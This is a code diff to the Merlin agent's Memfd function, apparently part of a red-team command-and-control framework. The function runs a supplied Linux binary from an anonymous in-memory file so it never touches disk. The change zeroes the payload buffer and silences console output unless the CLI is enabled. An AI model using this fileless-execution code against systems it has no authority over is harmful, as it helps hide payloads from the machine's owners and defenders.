@@ -35,6 +35,7 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
 )
 
 // Memfd places a linux executable file in-memory, executes it, and returns the results
@@ -54,6 +55,7 @@ func Memfd(cmd jobs.Command) (result jobs.Results) {
 
 	// Create Memory File
 	fd, err := memfile("", b)
+	secure.Zero(b)
 	if err != nil {
 		result.Stderr = fmt.Sprintf("there was an error creating the memfd file:\r\n%s", err)
 		return
@@ -77,17 +79,23 @@ func Memfd(cmd jobs.Command) (result jobs.Results) {
 		args = cmd.Args[1:]
 	}
 
-	cli.Message(cli.SUCCESS, fmt.Sprintf("Executing anonymous file from memfd_create with arguments: %s", args))
+	if cli.Enabled {
+		cli.Message(cli.SUCCESS, fmt.Sprintf("Executing anonymous file from memfd_create with arguments: %s", args))
+	}
 	command := exec.Command(fp, args...) // #nosec G204
 	stdout, stderr := command.CombinedOutput()
 	if len(stdout) > 0 {
 		result.Stdout = string(stdout)
-		cli.Message(cli.SUCCESS, fmt.Sprintf("Command output:\r\n\r\n%s", result.Stdout))
+		if cli.Enabled {
+			cli.Message(cli.SUCCESS, fmt.Sprintf("Command output:\r\n\r\n%s", result.Stdout))
+		}
 
 	}
 	if stderr != nil {
 		result.Stderr = stderr.Error()
-		cli.Message(cli.WARN, fmt.Sprintf("There was an error executing the memfd_create command:\n%s", stderr))
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("There was an error executing the memfd_create command:\n%s", stderr))
+		}
 	}
 
 	return